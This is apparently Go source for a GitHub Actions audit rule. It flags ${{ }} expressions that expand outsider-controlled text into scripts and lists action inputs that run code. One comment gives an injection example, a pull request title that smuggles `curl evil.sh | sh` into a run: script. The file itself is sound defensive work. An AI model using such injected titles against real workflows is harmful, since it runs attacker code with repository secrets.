package audit

import (
	"fmt"
	"regexp"
	"strings"

	"github.com/hubgates/hub/shared/finding"
)

// templateInjectionRule reports ${{ }} expressions that expand text an
// outsider controls into code: a run: script, github-script's script, or
// the code input of another well-known action. GitHub substitutes the
// expression into the code before the shell or interpreter parses it, so
// a pull request titled `"; curl evil.sh | sh; "` runs.
type templateInjectionRule struct{}

func (templateInjectionRule) meta() finding.Rule {
	return finding.Rule{
		ID:       RuleTemplateInjection,
		Severity: finding.Critical,
		Summary:  "Attacker-controllable expression expanded into a script",
		Help: "GitHub pastes ${{ }} expressions into a run: script (or github-script's script) before the shell " +
			"or interpreter reads it, so an issue title, a pull request body, a branch name or a commit message " +
			"becomes code. Pass the value through env: and use the variable, which the shell expands as data: " +
			"\"env: TITLE: ${{ github.event.issue.title }}\" then \"run: echo \\\"$TITLE\\\"\" (in github-script, " +
			"read process.env.TITLE). Findings are critical on triggers that run with the base repository's " +
			"token and secrets (pull_request_target, workflow_run, issue_comment, issues, discussion), high " +
			"elsewhere, medium for inputs and event fields that may carry text, and low for step and job " +
			"outputs on privileged triggers.",
		HelpURI: helpBase + RuleTemplateInjection,
	}
}

// codeInputs are "with:" inputs of well-known actions whose value is code
// the action runs: scripts for a shell, JavaScript, Python or PowerShell,
// and jq/yq programs. The list follows the injection sinks CodeQL models
// for actions (and zizmor's additions); inputs that are only text (a
// comment body, a message) are not code and are not listed.
var codeInputs = []struct {
	action string
	inputs []string
	lang   string
	// pass says how the step's env reaches code the action runs
	// elsewhere (a container, a remote host), as a format for the
	// variable name; "" when the code sees the step's env.
	pass string
}{
	{"actions/github-script", []string{"script"}, "JavaScript", ""},
	{"appleboy/ssh-action", []string{"script"}, "shell", "send it to the host with envs: %s"},
	{"azure/cli", []string{"inlinescript"}, "shell", ""},
	{"azure/powershell", []string{"inlinescript"}, "PowerShell", ""},
	{"amadevus/pwsh-script", []string{"script"}, "PowerShell", ""},
	{"jannekem/run-python-script-action", []string{"script"}, "Python", ""},
	{"cardinalby/js-eval-action", []string{"expression"}, "JavaScript", ""},
	{"mikefarah/yq", []string{"cmd"}, "shell", ""},
	{"sergeysova/jq-action", []string{"cmd"}, "shell", ""},
	{"devorbitus/yq-action-output", []string{"cmd"}, "shell", ""},
	{"addnab/docker-run-action", []string{"run"}, "shell", "hand it to the container with options: -e %s"},
}

// codeSink is one value that is run as code.
type codeSink struct {
	val   *scriptVal
	where string // "the run: script", "the \"script\" input of actions/github-script"
	lang  string // shell, JavaScript, ...
	pass  string // see codeInputs
}

func (sv *stepView) codeSinks() []codeSink {
	var out []codeSink
	if sv.run != nil {
		out = append(out, codeSink{val: sv.run, where: "the run: script", lang: "shell"})
	}
	for _, ci := range codeInputs {
		if !sv.usesAny(ci.action) {
			continue
		}
		for _, in := range ci.inputs {
			if v := sv.with[in]; v != nil {
				out = append(out, codeSink{val: v, where: fmt.Sprintf("the %q input of %s", in, ci.action), lang: ci.lang, pass: ci.pass})
			}
		}
	}
	return out
}

func (r templateInjectionRule) checkWorkflow(wf *workflowFile, rep *reporter) {
	if wf.ast == nil {
		return
	}
	v := newWorkflowView(wf)
	trig := wf.privilegedTrigger()
	for _, jv := range v.jobs {
		for _, sv := range jv.steps {
			r.checkStep(v.ix, sv, v.scope(jv, sv), trig, false, rep)
		}
	}
}

func (r templateInjectionRule) checkAction(a *actionFile, rep *reporter) {
	if a.root == nil {
		return
	}
	ix := actionIndex(a)
	for _, sv := range newActionSteps(a) {
		r.checkStep(ix, sv, actionScope(sv), "", true, rep)
	}
}

// checkStep reports the expressions in sv's code sinks. trig is the
// workflow's privileged trigger ("" when it has none or for actions).
func (r templateInjectionRule) checkStep(ix *srcIndex, sv *stepView, sc *exprScope, trig string, inAction bool, rep *reporter) {
	for _, sink := range sv.codeSinks() {
		for _, e := range findExprs(sink.val.value) {
			fs := sc.flows(e.node)
			t := worst(fs)
			sev, ok := injectionSeverity(t, trig, inAction, rep.wants(PersonaPedantic))
			if !ok {
				continue
			}
			rep.report(sev, ix.locate(sink.val, e.off), e.text, injectionMessage(e, fs, t, sink, trig, inAction))
		}
	}
}

// injectionSeverity maps a taint to a severity; false means not reported.
// Step and job outputs, and env variables set at run time, are reported
// (low) on privileged triggers, where they are often read from a pull
// request or an artifact; elsewhere and in actions their origin is
// usually the repository's own code, and only the pedantic persona
// reports them.
func injectionSeverity(t taint, trig string, inAction, pedantic bool) (finding.Severity, bool) {
	switch t {
	case taintAttacker:
		if trig != "" {
			return finding.Critical, true
		}
		return finding.High, true
	case taintUnknown, taintInput:
		return finding.Medium, true
	case taintOutput:
		if trig != "" && !inAction || pedantic {
			return finding.Low, true
		}
	}
	return 0, false
}

var envNameRe = regexp.MustCompile(`[^A-Z0-9]+`)

// envName suggests an environment variable name for a context path:
// "github.event.issue.title" becomes ISSUE_TITLE.
func envName(path string) string {
	segs := strings.Split(path, ".")
	var keep []string
	for i := len(segs) - 1; i >= 0 && len(keep) < 2; i-- {
		s := segs[i]
		if s == "*" || s == "github" || s == "event" || s == "outputs" || s == "inputs" {
			continue
		}
		keep = append([]string{s}, keep...)
	}
	if len(keep) == 0 {
		keep = segs[len(segs)-1:]
	}
	name := envNameRe.ReplaceAllString(strings.ToUpper(strings.Join(keep, "_")), "_")
	name = strings.Trim(name, "_")
	if name == "" || name[0] >= '0' && name[0] <= '9' {
		name = "VALUE" + name
	}
	return name
}

func injectionMessage(e exprUse, fs []flow, t taint, sink codeSink, trig string, inAction bool) string {
	f := fs[0]
	subject := f.describe()
	if n := distinctPaths(fs, t); n > 1 {
		subject += fmt.Sprintf(" (and %d more)", n-1)
	}
	var what string
	switch t {
	case taintAttacker:
		what = "attacker-controlled " + subject
	case taintUnknown:
		what = subject + ", an event field that may carry free text,"
	case taintInput:
		if inAction {
			what = subject + ", which the calling workflow may fill from an issue or pull request,"
		} else {
			what = subject + ", which whoever starts or calls the workflow chooses,"
		}
	case taintOutput:
		if trig != "" {
			what = fmt.Sprintf("%s, whose origin this audit does not follow (on %s such values often come from a pull request or an artifact),", subject, trig)
		} else {
			what = subject + ", whose origin this audit does not follow,"
		}
	}
	on := ""
	if trig != "" && t == taintAttacker {
		on = fmt.Sprintf(" on %s, with the base repository's token and secrets", trig)
	}
	if strings.HasPrefix(f.path, "env.") {
		name := f.path[len("env."):]
		if m := envRefRe.FindStringSubmatch(e.text); m != nil {
			name = m[1]
		}
		return fmt.Sprintf("expression %s expands %s into %s, where it runs as %s code%s; the value is already in the environment, so use the variable itself (%s) instead of the expression",
			e.text, what, sink.where, sink.lang, on, varSyntax(sink.lang, name))
	}
	name := envName(f.path)
	pass := ""
	if sink.pass != "" {
		pass = ", " + fmt.Sprintf(sink.pass, name) + ","
	}
	return fmt.Sprintf("expression %s expands %s into %s, where it runs as %s code%s; pass it through env: (env: %s: %s)%s and use %s in the script instead",
		e.text, what, sink.where, sink.lang, on, name, e.text, pass, varSyntax(sink.lang, name))
}

var envRefRe = regexp.MustCompile(`(?i)\benv\.([A-Za-z_][A-Za-z0-9_-]*)`)

// varSyntax is how a script in lang reads environment variable name.
func varSyntax(lang, name string) string {
	switch lang {
	case "JavaScript":
		return "process.env." + name
	case "PowerShell":
		return "$env:" + name
	case "Python":
		return fmt.Sprintf("os.environ[%q]", name)
	}
	return fmt.Sprintf("\"$%s\"", name)
}

// distinctPaths counts the different contexts at taint t among fs.
func distinctPaths(fs []flow, t taint) int {
	seen := map[string]bool{}
	for _, f := range fs {
		if f.taint == t {
			seen[f.path] = true
		}
	}
	return len(seen)
}
